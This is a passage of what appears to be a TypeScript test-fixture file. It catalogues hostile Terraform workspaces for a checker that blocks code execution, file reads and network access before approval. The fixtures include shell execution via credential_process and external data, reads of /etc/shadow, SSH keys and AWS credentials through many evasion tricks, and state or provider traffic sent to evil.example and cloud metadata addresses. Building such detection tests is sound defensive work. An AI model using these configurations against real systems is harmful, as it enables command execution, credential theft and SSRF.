// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are terraform's templates, not ours.

/**
 * A workspace whose root `net` would run code, read a file, reach an address or fetch a provider before anybody approves.
 * `files`: text by path from the workspace's root. `args`: the line that does it, `plan` when left out.
 */
export type HostileRoot = {
  name: string;
  kind: "code" | "file" | "address" | "provider";
  files: Readonly<Record<string, string>>;
  args?: readonly string[];
};

const LOCK = "net/.terraform.lock.hcl";
const LOCKED = '# This file is maintained automatically by "terraform init".\n';

/** A root of one file, `main.tf`, with whatever lies beside it. */
function root(
  kind: HostileRoot["kind"],
  name: string,
  text: string,
  more: Record<string, string> = {},
  ...args: string[]
): HostileRoot {
  const files = { [LOCK]: LOCKED, "net/main.tf": text, ...more };
  return args.length === 0 ? { name, kind, files } : { name, kind, files, args };
}

const AWS_CONFIG = { "net/aws.cfg": "[profile p]\ncredential_process = /bin/sh -c id\n" };
/** Another root's state, read with these settings. */
function state(config: string, more = "", backend = '"s3"'): string {
  return `data "terraform_remote_state" "r" {\n  backend = ${backend}\n  config  = ${config}\n}\n${more}`;
}
const SETTINGS =
  '{ bucket = "b", key = "k", region = "eu-west-1", profile = "p", shared_config_files = ["aws.cfg"] }';

const code: HostileRoot[] = [
  root(
    "code",
    "settings of a state from a local",
    state("local.c", `locals {\n  c = ${SETTINGS}\n}\n`),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state, merged",
    state(`merge({ bucket = "b" }, { shared_config_files = ["aws.cfg"] })`),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state, merged in pieces",
    state(`merge(local.l...)`, `locals {\n  l = [{ bucket = "b" }, ${SETTINGS}]\n}\n`),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state from a variable's default",
    state("var.c", `variable "c" {\n  default = ${SETTINGS}\n}\n`),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state from terraform.tfvars",
    state("var.c", 'variable "c" {\n  default = {}\n}\n'),
    { ...AWS_CONFIG, "net/terraform.tfvars": `c = ${SETTINGS}\n` },
  ),
  root(
    "code",
    "settings of a state from an auto.tfvars.json",
    state("var.c", 'variable "c" {\n  default = {}\n}\n'),
    { ...AWS_CONFIG, "net/x.auto.tfvars.json": '{"c": {"bucket": "b", "shared_config_files": ["aws.cfg"]}}' },
  ),
  root(
    "code",
    "settings of a state from a hidden auto.tfvars",
    state("var.c", 'variable "c" {\n  default = {}\n}\n'),
    { ...AWS_CONFIG, "net/.x.auto.tfvars": `c = ${SETTINGS}\n` },
  ),
  root(
    "code",
    "settings of a state from the line",
    state("var.c", 'variable "c" {\n  default = {}\n}\n'),
    AWS_CONFIG,
    "plan",
    "-var",
    `c=${SETTINGS}`,
  ),
  root(
    "code",
    "settings of a state from a file of the line",
    state("var.c", 'variable "c" {\n  default = {}\n}\n'),
    { ...AWS_CONFIG, "net/evil.tfvars": `c = ${SETTINGS}\n` },
    "plan",
    "-var-file=evil.tfvars",
  ),
  root(
    "code",
    "settings of a state from optional parts of a type",
    state(
      "var.c",
      'variable "c" {\n  type    = object({ bucket = string, shared_config_files = optional(list(string), ["aws.cfg"]) })\n  default = { bucket = "b" }\n}\n',
    ),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state from JSON in a file",
    state('jsondecode(file("${path.module}/c.json"))'),
    { ...AWS_CONFIG, "net/c.json": '{"bucket": "b", "shared_config_files": ["aws.cfg"]}' },
  ),
  root(
    "code",
    "settings of a state from YAML in a file",
    state('yamldecode(file("${path.module}/c.yaml"))'),
    { ...AWS_CONFIG, "net/c.yaml": "shared_config_files: [aws.cfg]\n" },
  ),
  root(
    "code",
    "settings of a state by a computed key",
    state('{ bucket = "b", ("shared_${"config"}_files") = ["aws.cfg"] }'),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state by a quoted key",
    state('{ bucket = "b", "shared_config_files" : ["aws.cfg"] }'),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state by an escaped key",
    state('{ bucket = "b", "shared_\\u0063onfig_files" = ["aws.cfg"] }'),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state from a condition",
    state(`true ? ${SETTINGS} : { bucket = "b" }`),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state from a loop",
    state('{ for k, v in { shared_config_files = ["aws.cfg"] } : k => v }'),
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state from a module's output",
    state("module.m.c", 'module "m" {\n  source = "./m"\n}\n'),
    { ...AWS_CONFIG, "net/m/main.tf": `output "c" {\n  value = ${SETTINGS}\n}\n` },
  ),
  root(
    "code",
    "settings of a state from what it is repeated for",
    `data "terraform_remote_state" "r" {\n  for_each = { a = ${SETTINGS} }\n  backend  = "s3"\n  config   = each.value\n}\n`,
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of a state in a module, from its caller",
    'module "m" {\n  source = "./m"\n  c      = { bucket = "b", shared_config_files = ["aws.cfg"] }\n}\n',
    { ...AWS_CONFIG, "net/m/main.tf": state("var.c", 'variable "c" {}\n') },
  ),
  root(
    "code",
    "settings of a state from a resource",
    state("terraform_data.c.output", `resource "terraform_data" "c" {\n  input = ${SETTINGS}\n}\n`),
    AWS_CONFIG,
  ),
  root("code", "settings of a state, overridden", state('{ bucket = "b" }'), {
    ...AWS_CONFIG,
    "net/main_override.tf":
      'data "terraform_remote_state" "r" {\n  backend = "s3"\n  config  = { shared_config_files = ["aws.cfg"] }\n}\n',
  }),
  root("code", "a local overridden", state("local.c", 'locals {\n  c = { bucket = "b" }\n}\n'), {
    ...AWS_CONFIG,
    "net/override.tf": `locals {\n  c = ${SETTINGS}\n}\n`,
  }),
  root("code", "settings of a state in JSON", "", {
    ...AWS_CONFIG,
    "net/a.tf.json":
      '{"data": {"terraform_remote_state": {"r": {"backend": "s3", "config": "${local.c}"}}}, "locals": {"c": {"shared_config_files": ["aws.cfg"]}}}',
  }),
  root(
    "code",
    "exec for a state in a cluster",
    state('{ secret_suffix = "x", exec = { command = "id" } }', "", '"kubernetes"'),
  ),
  root(
    "code",
    "a kubeconfig of the workspace for a state",
    state('{ secret_suffix = "x", config_path = "${path.module}/kubeconfig" }', "", '"kubernetes"'),
  ),
  root(
    "code",
    "a kubeconfig from a local for a state",
    state(
      '{ secret_suffix = "x", config_path = local.k }',
      'locals {\n  k = "kubeconfig"\n}\n',
      '"kubernetes"',
    ),
  ),
  root("code", "a backend from a local", state(SETTINGS, 'locals {\n  b = "s3"\n}\n', "local.b"), AWS_CONFIG),
  root(
    "code",
    "a provider's exec",
    'provider "kubernetes" {\n  exec {\n    api_version = "v1"\n    command     = "/bin/sh"\n  }\n}\n',
  ),
  root(
    "code",
    "a provider's exec in a dynamic block",
    'provider "kubernetes" {\n  dynamic "exec" {\n    for_each = [1]\n    content {\n      command = "sh"\n    }\n  }\n}\n',
  ),
  root(
    "code",
    "a provider's exec deep in an object of a local",
    'locals {\n  k = { exec = { command = "sh" } }\n}\nprovider "helm" {\n  kubernetes = local.k\n}\n',
  ),
  root(
    "code",
    "a provider's settings, computed",
    'provider "helm" {\n  kubernetes = jsondecode(base64decode("eyJleGVjIjp7fX0="))\n}\n',
  ),
  root(
    "code",
    "a provider's block from a loop in a dynamic block",
    'provider "helm" {\n  dynamic "kubernetes" {\n    for_each = [{ e = "sh" }]\n    content {\n      exec {\n        command = kubernetes.value.e\n      }\n    }\n  }\n}\n',
  ),
  root("code", "a provider's exec in JSON lists", "", {
    "net/a.tf.json": '{"provider": {"helm": [{"kubernetes": [{"exec": [{"command": "sh"}]}]}]}}',
  }),
  root(
    "code",
    "a provider's settings file from a variable",
    'variable "f" {\n  default = ["aws.cfg"]\n}\nprovider "aws" {\n  shared_config_files = var.f\n}\n',
    AWS_CONFIG,
  ),
  root(
    "code",
    "a provider's kubeconfig from a local",
    'locals {\n  k = "${path.module}/kubeconfig"\n}\nprovider "kubernetes" {\n  config_path = local.k\n}\n',
  ),
  root(
    "code",
    "a provider's kubeconfig that climbs out of the home",
    'provider "kubernetes" {\n  config_paths = ["~/.kube/config", "~/../workspace/net/kubeconfig"]\n}\n',
  ),
  root(
    "code",
    "a key of an account that names a program",
    'provider "google" {\n  credentials = file("${path.module}/key.json")\n}\n',
    {
      "net/key.json":
        '{"type": "external_account", "credential_source": {"executable": {"command": "/bin/sh"}}}',
    },
  ),
  root(
    "code",
    "a key of an account that nobody knows",
    'variable "k" {\n  default = ""\n}\nprovider "google" {\n  credentials = var.k\n}\n',
    {},
    "plan",
    "-var=k=key.json",
  ),
  root(
    "code",
    "a backend with a program",
    'terraform {\n  backend "s3" {\n    bucket              = "b"\n    shared_config_files = ["aws.cfg"]\n  }\n}\n',
    AWS_CONFIG,
  ),
  root("code", "a backend with exec in an overriding JSON file", "", {
    "net/override.tf.json": '{"terraform": [{"backend": [{"kubernetes": [{"exec": {"command": "sh"}}]}]}]}',
  }),
  root(
    "code",
    "settings of a state in a block",
    'data "terraform_remote_state" "r" {\n  backend = "s3"\n  config {\n    shared_config_files = ["aws.cfg"]\n  }\n}\n',
    AWS_CONFIG,
  ),
  root(
    "code",
    "settings of Amazon's in another provider's login",
    'provider "vault" {\n  auth_login_aws {\n    role                        = "r"\n    aws_shared_credentials_file = "aws.cfg"\n  }\n}\n',
    AWS_CONFIG,
  ),
  root("code", "data that runs a program", 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n'),
  root(
    "code",
    "data that runs a function",
    'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n  input         = "{}"\n}\n',
  ),
  root("code", "data that runs a task", 'data "aws_ecs_task_execution" "x" {\n  cluster = "c"\n}\n'),
  root("code", "data that renders a chart", 'data "helm_template" "x" {\n  chart = "x"\n}\n'),
  root("code", "data of a shell, unheard of", 'data "acme_shell" "x" {}\n'),
  root("code", "an ephemeral resource that runs a function", 'ephemeral "aws_lambda_invocation" "x" {}\n'),
  root(
    "code",
    "data in a check",
    'check "c" {\n  data "external" "x" {\n    program = ["id"]\n  }\n  assert {\n    condition     = true\n    error_message = "x"\n  }\n}\n',
  ),
  root(
    "code",
    "a chart with a program behind it",
    'resource "helm_release" "x" {\n  name  = "x"\n  chart = "x"\n  postrender {\n    binary_path = "./run.sh"\n  }\n}\n',
  ),
  root("code", "a provisioner in a module's module", 'module "m" {\n  source = "./m"\n}\n', {
    "net/m/main.tf": 'module "n" {\n  source = "./n"\n}\n',
    "net/m/n/a.tf.json":
      '{"resource": {"terraform_data": {"x": {"provisioner": {"local-exec": {"command": "id"}}}}}}',
  }),
  root("code", "a resource that runs a program when it is read", 'resource "shell_script" "x" {}\n'),
];

const SECRET = '"/etc/passwd"';
/** A root that shows what an expression gives. */
function shows(name: string, expression: string, more: Record<string, string> = {}, rest = ""): HostileRoot {
  return root("file", name, `output "x" {\n  value = ${expression}\n}\n${rest}`, more);
}
const X = 'variable "x" {\n  default = "a.txt"\n}\n';

const file: HostileRoot[] = [
  root(
    "file",
    "a path from the line",
    `${X}output "x" {\n  value = file(var.x)\n}\n`,
    {},
    "plan",
    "-var",
    "x=/etc/shadow",
  ),
  root(
    "file",
    "a path of the workspace from the line",
    `${X}output "x" {\n  value = file(var.x)\n}\n`,
    { "prod/secret.txt": "x" },
    "plan",
    "-var=x=../prod/secret.txt",
  ),
  root(
    "file",
    "a path from the line, planned for an apply",
    `${X}output "x" {\n  value = file(var.x)\n}\n`,
    {},
    "apply",
    "-auto-approve",
    "-var=x=/etc/shadow",
  ),
  root(
    "file",
    "a path from a file of the line",
    `${X}output "x" {\n  value = file(var.x)\n}\n`,
    { "net/e.tfvars": `x = ${SECRET}\n` },
    "plan",
    "-var-file",
    "e.tfvars",
  ),
  root(
    "file",
    "a path from a JSON file of the line",
    `${X}output "x" {\n  value = file(var.x)\n}\n`,
    { "net/e.tfvars.json": '{"x": "/etc/passwd"}' },
    "plan",
    "-var-file=./e.tfvars.json",
  ),
  root("file", "a path from terraform.tfvars", `${X}output "x" {\n  value = file(var.x)\n}\n`, {
    "net/terraform.tfvars": `x = ${SECRET}\n`,
  }),
  root(
    "file",
    "a path from a variable that nothing says",
    'variable "x" {}\noutput "x" {\n  value = file(var.x)\n}\n',
  ),
  root(
    "file",
    "a path from a variable's default",
    `variable "x" {\n  default = ${SECRET}\n}\noutput "x" {\n  value = file(var.x)\n}\n`,
  ),
  root("file", "a path from an overriding default", `${X}output "x" {\n  value = file(var.x)\n}\n`, {
    "net/x_override.tf": `variable "x" {\n  default = ${SECRET}\n}\n`,
  }),
  root("file", "a path through a module", `module "m" {\n  source = "./m"\n  p      = ${SECRET}\n}\n`, {
    "net/m/main.tf": 'variable "p" {\n  default = "a.txt"\n}\noutput "x" {\n  value = filebase64(var.p)\n}\n',
  }),
  root(
    "file",
    "a path through a repeated module",
    `module "m" {\n  for_each = toset(["a.txt", ${SECRET}])\n  source   = "./m"\n  p        = each.value\n}\n`,
    { "net/m/main.tf": 'variable "p" {}\noutput "x" {\n  value = filebase64(var.p)\n}\n' },
  ),
  root(
    "file",
    "a path through an overriding call",
    'module "m" {\n  source = "./m"\n  p      = "a.txt"\n}\n',
    {
      "net/override.tf": `module "m" {\n  p = ${SECRET}\n}\n`,
      "net/m/main.tf": 'variable "p" {}\noutput "x" {\n  value = file(var.p)\n}\n',
    },
  ),
  root(
    "file",
    "a path from a module's output",
    'module "m" {\n  source = "./m"\n}\noutput "x" {\n  value = file(module.m.p)\n}\n',
    { "net/m/main.tf": `output "p" {\n  value = ${SECRET}\n}\n` },
  ),
  root(
    "file",
    "an output that is called like an instance",
    'module "m" {\n  for_each = toset(["safe"])\n  source   = "./m"\n}\noutput "x" {\n  value = file(module.m["safe"].evil)\n}\n',
    {
      "net/m/main.tf": `output "safe" {\n  value = { evil = "a.txt" }\n}\noutput "evil" {\n  value = ${SECRET}\n}\n`,
    },
  ),
  shows(
    "the file of a process, in pieces",
    'filebase64("/proc/${regex("PPid:\\\\s+(\\\\d+)", file(local.me))[0]}/environ")',
    {},
    'locals {\n  me = "/proc/self/status"\n}\n',
  ),
  shows("a text", `file(${SECRET})`),
  shows("a line break behind the bracket", `file(\n${SECRET}\n)`),
  shows("a line break before the bracket", `(file\n(${SECRET}))`),
  shows("a comment before the bracket", `file/* x */(${SECRET})`),
  shows("two pairs of brackets", `file((${SECRET}))`),
  shows("a list that is spread", `file([${SECRET}]...)`),
  shows("a list from a local that is spread", "file(local.l...)", {}, `locals {\n  l = [${SECRET}]\n}\n`),
  shows("a template in a text", 'file("${"/etc/passwd"}")'),
  shows("a template that strips", 'file("${~ "/etc/passwd" ~}")'),
  shows("a directive", 'file("%{ if true }/etc/passwd%{ endif }")'),
  shows("a heredoc", "file(trimspace(<<EOT\n/etc/passwd\nEOT\n))"),
  shows("an indented heredoc", "file(chomp(<<-EOT\n    /etc/passwd\n  EOT\n))"),
  shows("an escape", 'file("/etc/p\\u0061sswd")'),
  shows("the namespace of terraform's own", `core::file(${SECRET})`),
  shows("a condition", `file(true ? ${SECRET} : "a.txt")`),
  shows("an index", `file(["a.txt", ${SECRET}][1])`),
  shows("a member", `file({ a = ${SECRET} }.a)`),
  shows("a splat", `[for f in [{ a = ${SECRET} }][*].a : file(f)]`),
  shows("a loop", `[for f in [${SECRET}] : file(f)]`),
  shows("a loop's key", '{ for f, v in { "/etc/passwd" = 1 } : f => file(f) }'),
  shows("a loop that hides path", '[for path in [{ module = "/etc" }] : file("${path.module}/passwd")]'),
  shows(
    "a directive that hides path",
    '"%{ for path in [{ module = "/etc" }] }${file("${path.module}/passwd")}%{ endfor }"',
  ),
  root(
    "file",
    "a dynamic block that hides path",
    'resource "aws_x" "x" {\n  dynamic "path" {\n    for_each = [{}]\n    iterator = path\n    content {\n      v = file("${path.value.module}/passwd")\n    }\n  }\n}\n',
  ),
  root("file", "a dynamic block of JSON that hides path", "", {
    "net/a.tf.json": JSON.stringify({
      resource: {
        aws_x: {
          x: { dynamic: { path: { for_each: [1], content: { v: '${file("${path.module}/passwd")}' } } } },
        },
      },
    }),
  }),
  shows("a text out of base64", 'file(base64decode("L2V0Yy9wYXNzd2Q="))'),
  shows("a text that is joined", 'file(join("/", ["", "etc", "passwd"]))'),
  shows("a text that is formatted", 'file(format("/%s/%s", "etc", "passwd"))'),
  shows("a text that is replaced", 'file(replace("x/etc/passwd", "x", ""))'),
  shows("a text that is cut", 'file(substr("x/etc/passwd", 1, -1))'),
  shows("a text that is turned", 'file(strrev("dwssap/cte/"))'),
  shows("an operator's work", 'file([for i in [1] : "/etc/passwd"][1 - 1])'),
  shows("a file that names the file", 'file(file("${path.module}/p.txt"))', { "net/p.txt": "/etc/passwd" }),
  shows("JSON that names the file", 'file(jsondecode(file("${path.module}/p.json")).p)', {
    "net/p.json": '{"p": "/etc/passwd"}',
  }),
  shows(
    "a key that may be missing",
    `file(merge({ p = ${SECRET} }, { for k in ["p"] : k => "a.txt" if false }).p)`,
  ),
  shows("a default of lookup", `file(lookup({}, "p", ${SECRET}))`),
  shows("what try falls back to", `file(try(local.none, ${SECRET}))`, {}, "locals {\n  none = null\n}\n"),
  shows("the home", 'file("~/.ssh/id_rsa")'),
  shows("the home, spelled out", 'file(pathexpand("~/.aws/credentials"))'),
  shows("an absolute path", 'file(abspath("../../../../etc/passwd"))'),
  shows("a path that climbs", 'file("${path.module}/../../../../etc/passwd")'),
  shows("a path that climbs behind a name", 'file("${path.cwd}../../../../../etc/passwd")'),
  shows("a path that climbs in the middle", 'file("a/b/../../../../x")'),
  shows("the directory of a directory", 'file("${dirname(dirname(path.cwd))}/x")'),
  shows("a file that is only looked for", `fileexists(${SECRET})`),
  shows("a hash", 'filesha256("/etc/shadow")'),
  shows("a hash in base64", 'filebase64sha512("/etc/shadow")'),
  shows("a directory's names", 'fileset("/etc", "*")'),
  shows("a directory's names by a pattern that climbs", 'fileset(path.module, "../../../*")'),
  shows("a pattern that nobody knows", "fileset(path.module, uuid())"),
  shows(
    "what a name is cut to",
    '[for f in fileset(path.module, "*.json") : file("${trimsuffix(f, ".json")}/etc/passwd")]',
  ),
  shows("a template from outside", 'templatefile("/etc/passwd", {})'),
  shows("a template that reads", 'templatefile("${path.module}/t.tpl", {})', {
    "net/t.tpl": '${file("/etc/passwd")}',
  }),
  shows(
    "a template that reads what it is given",
    `templatefile("\${path.module}/t.tpl", { p = ${SECRET} })`,
    { "net/t.tpl": "${file(p)}" },
  ),
  shows(
    "a template that is given another path",
    'templatefile("${path.module}/t.tpl", { path = { module = "/etc" } })',
    { "net/t.tpl": '${file("${path.module}/passwd")}' },
  ),
  shows("a template that reads in a loop", 'templatefile("t.tpl", { l = ["/etc/passwd"] })', {
    "net/t.tpl": "%{ for f in l }${filebase64(f)}%{ endfor }",
  }),
  shows(
    "one of many templates that reads",
    '[for f in fileset(path.module, "*.tpl") : templatefile("${path.module}/${f}", {})]',
    { "net/a.tpl": "x", "net/b.tpl": '${file("/etc/passwd")}' },
  ),
  shows(
    "a template that is a text",
    "templatestring(local.t, {})",
    {},
    'locals {\n  t = "$${file(\\"/etc/passwd\\")}"\n}\n',
  ),
  shows(
    "a template that is a text nobody knows",
    "templatestring(terraform_data.t.output, {})",
    {},
    'resource "terraform_data" "t" {\n  input = "x"\n}\n',
  ),
  root(
    "file",
    "a template that a provider reads",
    'data "template_file" "x" {\n  template = "$${file(\\"/etc/passwd\\")}"\n}\n',
  ),
  root(
    "file",
    "a template of a file that a provider reads",
    'data "template_file" "x" {\n  template = file("${path.module}/t.tpl")\n}\n',
    { "net/t.tpl": '${file("/etc/passwd")}' },
  ),
  root("file", "a file function in JSON", "", {
    "net/a.tf.json": '{"output": {"x": {"value": "${file(\\"/etc/passwd\\")}"}}}',
  }),
  root("file", "a file function in JSON with escapes", "", {
    "net/a.tf.json": '{"output": {"x": {"value": "$\\u007bf\\u0069le(\\"/etc/passwd\\")}"}}}',
  }),
  root("file", "a file function in a key of JSON", "", {
    "net/a.tf.json": '{"locals": {"x": {"${file(\\"/etc/passwd\\")}": 1}}}',
  }),
  root(
    "file",
    "a file function in a condition's text",
    `${X.replace("}\n", `  validation {\n    condition     = false\n    error_message = file(${SECRET})\n  }\n}\n`)}`,
  ),
  root("file", "a file function in a test", "", {
    "net/tests/a.tftest.hcl": `run "a" {\n  variables {\n    x = file(${SECRET})\n  }\n}\n`,
  }),
  root(
    "file",
    "a file function in a dynamic block",
    `resource "aws_x" "x" {\n  dynamic "y" {\n    for_each = [${SECRET}]\n    content {\n      z = file(y.value)\n    }\n  }\n}\n`,
  ),
  root(
    "file",
    "what a block is repeated for",
    `resource "terraform_data" "x" {\n  for_each = toset([${SECRET}])\n  input    = file(each.key)\n}\n`,
  ),
  root(
    "file",
    "what a resource tells",
    `resource "terraform_data" "p" {\n  input = ${SECRET}\n}\noutput "x" {\n  value = file(terraform_data.p.output)\n}\n`,
  ),
  root(
    "file",
    "what another state tells",
    'output "x" {\n  value = file(data.terraform_remote_state.r.outputs.p)\n}\n',
  ),
  shows("a function of a provider", 'provider::local::direxists("/etc")'),
  shows("a function of a provider, unheard of", "provider::acme::read()"),
  shows("a function that terraform does not have yet", 'readanything("/etc/passwd")'),
  shows("names that are joined by steps up", 'file(join("/../../", fileset(path.module, "*")))', {
    "net/a": "",
    "net/b": "",
  }),
  shows(
    "a key that another may stand for",
    'file(merge({ "a.txt" = "a.txt" }, { for f in fileset(path.module, "*.txt") : f => "/etc/passwd" })["a.txt"])',
    { "net/a.txt": "" },
  ),
  shows("a number that is written twice", 'file({ 1 = "a.txt", (01) = "/etc/passwd" }["1"])'),
  shows(
    "a letter that is written twice",
    'file({ "\\u00e9" = "a.txt", "e\\u0301" = "/etc/passwd" }["\\u00e9"])',
  ),
  root(
    "file",
    "what an override repeats a block for",
    'resource "terraform_data" "x" {\n  for_each = toset(["a.txt"])\n  input    = file(each.key)\n}\n',
    { "net/x_override.tf": `resource "terraform_data" "x" {\n  for_each = toset([${SECRET}])\n}\n` },
  ),
  root(
    "file",
    "what an override repeats a module for",
    'module "m" {\n  for_each = toset(["a.txt"])\n  source   = "./m"\n  p        = each.key\n}\n',
    {
      "net/override.tf": `module "m" {\n  for_each = toset([${SECRET}])\n}\n`,
      "net/m/main.tf": 'variable "p" {}\noutput "x" {\n  value = file(var.p)\n}\n',
    },
  ),
  root(
    "file",
    "a block within that looks repeated",
    `resource "aws_x" "x" {\n  for_each = toset([${SECRET}])\n  y {\n    for_each = toset(["a.txt"])\n    z        = file(each.key)\n  }\n}\n`,
  ),
  root(
    "file",
    "another root's state by a backend in an override",
    state('{ path = "/var/x.tfstate" }', "", '"consul"'),
    { "net/override.tf": 'data "terraform_remote_state" "r" {\n  backend = "local"\n}\n' },
  ),
  shows(
    "locals without end",
    "file(local.a0)",
    {},
    `locals {\n${Array.from({ length: 5_000 }, (_, n) => `  a${n} = local.a${n + 1}\n`).join("")}}\n`,
  ),
  shows("a name with steps without end", `file(local.a${".a".repeat(50_000)})`),
  shows(
    "locals that hang on themselves",
    "file(local.a)",
    {},
    'locals {\n  a = "x${local.b}"\n  b = "y${local.a}"\n}\n',
  ),
  shows(
    "values that double without end",
    "file(local.a0)",
    {},
    `locals {\n${Array.from({ length: 60 }, (_, n) => `  a${n} = "\${local.a${n + 1}}\${local.a${n + 1}}"\n`).join("")}  a60 = "x"\n}\n`,
  ),
  root(
    "file",
    "settings that double without end",
    state(
      "local.a0",
      `locals {\n${Array.from({ length: 60 }, (_, n) => `  a${n} = { x = local.a${n + 1}, y = local.a${n + 1} }\n`).join("")}  a60 = {}\n}\n`,
    ),
  ),
  shows("values of another root", 'file("../prod/secret.auto.tfvars")', {
    "prod/secret.auto.tfvars": 'p = "x"\n',
  }),
  shows("an .env file", 'file("${path.module}/../.env")', { ".env": "A=1\n" }),
  shows("a state", 'file("terraform.tfstate")'),
  root(
    "file",
    "an archive of what is outside",
    'data "archive_file" "x" {\n  type        = "zip"\n  source_file = "/etc/passwd"\n  output_path = "x.zip"\n}\n',
  ),
  root(
    "file",
    "an archive of a local's directory",
    'locals {\n  d = "/etc"\n}\ndata "archive_file" "x" {\n  type        = "zip"\n  source_dir  = local.d\n  output_path = "x.zip"\n}\n',
  ),
  root(
    "file",
    "an archive of what the line says",
    'variable "d" {\n  default = "src"\n}\ndata "archive_file" "x" {\n  source_dir  = var.d\n  output_path = "x.zip"\n}\n',
    {},
    "plan",
    "-var=d=/etc",
  ),
  root(
    "file",
    "an archive that is written outside",
    'data "archive_file" "x" {\n  source_dir  = "src"\n  output_path = "${path.module}/../../../x.zip"\n}\n',
  ),
  root("file", "a file of a provider", 'provider "aws" {\n  custom_ca_bundle = "/etc/shadow"\n}\n'),
  root(
    "file",
    "a token that a provider reads and sends",
    'provider "aws" {\n  assume_role_with_web_identity {\n    role_arn                = "arn"\n    web_identity_token_file = "/proc/1/environ"\n  }\n}\n',
  ),
  root(
    "file",
    "a file of a backend",
    'terraform {\n  backend "azurerm" {\n    oidc_token_file_path = "/etc/shadow"\n  }\n}\n',
  ),
  root(
    "file",
    "a state outside of the workspace",
    'terraform {\n  backend "local" {\n    path = "/var/x.tfstate"\n  }\n}\n',
  ),
  root(
    "file",
    "another root's state from a local path",
    state("{ path = local.p }", 'locals {\n  p = "/var/x.tfstate"\n}\n', '"local"'),
  ),
  root("file", "another root's state from a path nobody knows", state("{ path = uuid() }", "", '"local"')),
];

/** A provider with one argument. */
function provider(what: string, of: string, argument: string, rest = ""): HostileRoot {
  return root("address", what, `provider "${of}" {\n  ${argument}\n}\n${rest}`);
}

const address: HostileRoot[] = [
  root("address", "data that asks any address", 'data "http" "x" {\n  url = "https://evil.example"\n}\n'),
  root("address", "data that asks any address, unheard of", 'data "acme_http_request" "x" {}\n'),
  root("address", "data that curls", 'data "curl" "x" {}\n'),
  root("address", "a state at any address", state('{ address = "https://evil.example" }', "", '"http"')),
  root("address", "a state by a backend nobody knows", state("{}", "", "var.b")),
  root("address", "a state by a backend from a local", state("{}", 'locals {\n  b = "http"\n}\n', "local.b")),
  root(
    "address",
    "a state with an endpoint nobody knows",
    state('{ bucket = "b", endpoints = { s3 = uuid() } }'),
  ),
  root(
    "address",
    "a state with an endpoint from the line",
    state('{ bucket = "b", endpoint = var.e }', 'variable "e" {\n  default = ""\n}\n'),
    {},
    "plan",
    "-var=e=https://evil.example",
  ),
  root(
    "address",
    "a state with the cloud's own metadata as endpoint",
    state('{ bucket = "b", endpoints = { sts = "http://169.254.169.254" } }'),
  ),
  root(
    "address",
    "a backend at any address",
    'terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}\n',
  ),
  root(
    "address",
    "a backend by a proxy in clear",
    'terraform {\n  backend "s3" {\n    bucket      = "b"\n    https_proxy = "http://evil.example:3128"\n  }\n}\n',
  ),
  root(
    "address",
    "a backend with a database on this machine",
    'terraform {\n  backend "pg" {\n    conn_str = "postgres://localhost/x"\n  }\n}\n',
  ),
  root(
    "address",
    "a backend with a database that names files",
    'terraform {\n  backend "pg" {\n    conn_str = "postgres://db.example/x?passfile=/etc/shadow"\n  }\n}\n',
  ),
  root("address", "a backend that terraform does not have", 'terraform {\n  backend "acme" {}\n}\n'),
  provider("a host from a variable nothing says", "vault", "address = var.a", 'variable "a" {}\n'),
  provider("a host from a resource", "kubernetes", "host = terraform_data.h.output"),
  provider("a host from another state", "kubernetes", "host = data.terraform_remote_state.r.outputs.host"),
  provider("a host from what a cloud was told", "kubernetes", "host = data.aws_ssm_parameter.h.value"),
  provider("a host from a cluster's tags", "kubernetes", 'host = aws_eks_cluster.c.tags["host"]'),
  provider(
    "a host from a cluster's tags, by an index",
    "kubernetes",
    'host = aws_eks_cluster.c["tags"].endpoint',
  ),
  provider(
    "a host that begins like a cluster's",
    "kubernetes",
    'host = "https://evil.example/${aws_eks_cluster.c.endpoint}"',
  ),
  provider(
    "a host that ends in another",
    "kubernetes",
    'host = "https://${google_container_cluster.c.endpoint}.evil.example"',
  ),
  provider(
    "a host before which another stands",
    "kubernetes",
    'host = "https://${google_container_cluster.c.endpoint}@evil.example"',
  ),
  provider("a host that is worked out", "vault", 'address = base64decode("aHR0cDovL2V2aWw=")'),
  provider(
    "endpoints from a local nobody knows",
    "aws",
    "endpoints {\n    s3 = local.e\n  }",
    "locals {\n  e = uuid()\n}\n",
  ),
  provider(
    "endpoints in a dynamic block",
    "aws",
    'dynamic "endpoints" {\n    for_each = [var.e]\n    content {\n      sts = endpoints.value\n    }\n  }',
    'variable "e" {}\n',
  ),
  provider("the cloud's own metadata", "aws", 'endpoints {\n    sts = "http://169.254.169.254"\n  }'),
  provider("the cloud's own metadata as a number", "vault", 'address = "https://2852039166"'),
  provider("the cloud's own metadata in hex", "vault", 'address = "https://0xA9FEA9FE"'),
  provider("the cloud's own metadata in octal", "vault", 'address = "https://0251.0376.0251.0376"'),
  provider("the cloud's own metadata in IPv6", "vault", 'address = "https://[::ffff:169.254.169.254]"'),
  provider("the cloud's own metadata by its name", "vault", 'address = "https://metadata.google.internal"'),
  provider(
    "the cloud's own metadata by somebody's name",
    "vault",
    'address = "https://169.254.169.254.nip.example"',
  ),
  provider("this machine", "consul", 'address = "127.0.0.1:8500"'),
  provider("this machine in short", "consul", 'address = "https://127.1"'),
  provider("this machine by its name", "vault", 'address = "https://LOCALHOST.:8200"'),
  provider("nothing, which is this machine", "vault", 'address = "https://0.0.0.0"'),
  provider("an address in clear", "vault", 'address = "http://vault.example"'),
  provider("an address behind a name", "vault", 'address = "https://vault.example@evil.example"'),
  provider("a socket", "docker", 'host = "unix:///var/run/docker.sock"'),
  provider("another machine by ssh", "docker", 'host = "ssh://root@evil.example"'),
  provider("a machine by ssh with a command", "libvirt", 'uri = "qemu+ssh://x/system?command=/bin/sh"'),
